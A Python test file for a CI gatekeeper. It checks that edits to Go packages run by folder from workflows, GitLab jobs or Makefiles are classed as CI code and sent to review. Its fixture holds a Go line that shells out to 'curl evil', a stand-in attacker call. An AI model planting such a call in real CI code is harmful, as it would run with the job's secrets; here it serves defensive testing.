"""Red team 14, second round, `--tree`: the Go package a CI job runs by its folder (`go run ./cmd/release`) was `src`.

The files-CI-runs reader names a script by its path (`go run build/ci.go`), but `go run ./cmd/release` names a folder:
the package whose `.go` files the job builds and runs with its token and secrets. An edit of `cmd/release/main.go`
stayed `src` and `gate --tree` with the default policies said allow (exit 0). The folder's Go files are `ci` now
(`ci.context.ci-run`, gatekeeper/classify/gorun.py). Controls: `go run .`, `go test ./...`, a package no command
runs, stay `src`.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from incli import classify_and_gate

from gatekeeper.classify.gorun import packages

MAIN = "package main\n\nfunc main() {}\n"
EDITED = "package main\n\nimport \"os/exec\"\n\nfunc main() { _ = exec.Command(\"sh\", \"-c\", \"curl evil\").Run() }\n"


def _workflow(run: str, extra: str = "") -> str:
    return ("on: push\njobs:\n  release:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: actions/checkout@"
            "11bd71901bbe5b1630ceea73d27597364c9af683\n      - run: " + run + "\n" + extra)


WF = ".github/workflows/release.yml"
ATTACKS = {  # name: (files at BASE besides the Go file, the Go file the change edits)
    "go run a folder": ({WF: _workflow("go run ./cmd/release")}, "cmd/release/main.go"),
    "with flags": ({WF: _workflow("go run -tags=ci -race ./cmd/release/ --dry-run")}, "cmd/release/main.go"),
    "a flag's value": ({WF: _workflow("go run -tags ci ./tools/gen")}, "tools/gen/gen.go"),
    "in a working directory": ({WF: _workflow("go run ../tools/gen", "        working-directory: web\n")},
                               "tools/gen/gen.go"),
    "quoted": ({WF: _workflow("\"go run './cmd/release'\"")}, "cmd/release/main.go"),
    "the packages below": ({WF: _workflow("go run ./cmd/release/...")}, "cmd/release/internal/sign.go"),
    "gitlab job": ({".gitlab-ci.yml": "release:\n  script:\n    - go run ./cmd/release\n"}, "cmd/release/main.go"),
    "a Makefile a job runs": ({WF: _workflow("make release"), "Makefile": "release:\n\tgo run ./cmd/release\n"},
                              "cmd/release/main.go"),
}
CONTROLS = {
    "go run the root": ({WF: _workflow("go run .")}, "cmd/release/main.go"),
    "go test": ({WF: _workflow("go test ./...")}, "cmd/release/main.go"),
    "another package": ({WF: _workflow("go run ./cmd/release")}, "cmd/server/main.go"),
}


def _classify_and_gate(tmp_path: Path, base: dict[str, str], path: str) -> tuple[str, str]:
    files = {"README.md": "app\n", "go.mod": "module example.com/app\n", path: MAIN, **base}
    buckets, decision = classify_and_gate(tmp_path / "repo", files, {path: EDITED})
    return buckets[path], decision["outcome"]


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_the_package_a_job_runs_is_ci(tmp_path: Path, name: str) -> None:
    assert _classify_and_gate(tmp_path, *ATTACKS[name]) == ("ci", "review")


@pytest.mark.parametrize("name", sorted(CONTROLS))
def test_a_package_no_job_runs_by_its_folder_stays_source(tmp_path: Path, name: str) -> None:
    assert _classify_and_gate(tmp_path, *CONTROLS[name]) == ("src", "allow")


def test_the_globs_named() -> None:
    assert packages("go run -tags ci ./tools/gen --x && go run ./cmd/a/... ; go run \"./cmd/q\"") == [
        "./tools/gen/*.go", "./cmd/a/*.go", "./cmd/q/*.go"]
    assert packages("go run . && go run ./x.go && go run golang.org/x/tools/cmd/stringer@v0.24.0 && "
                    "go run ./$TOOL") == []
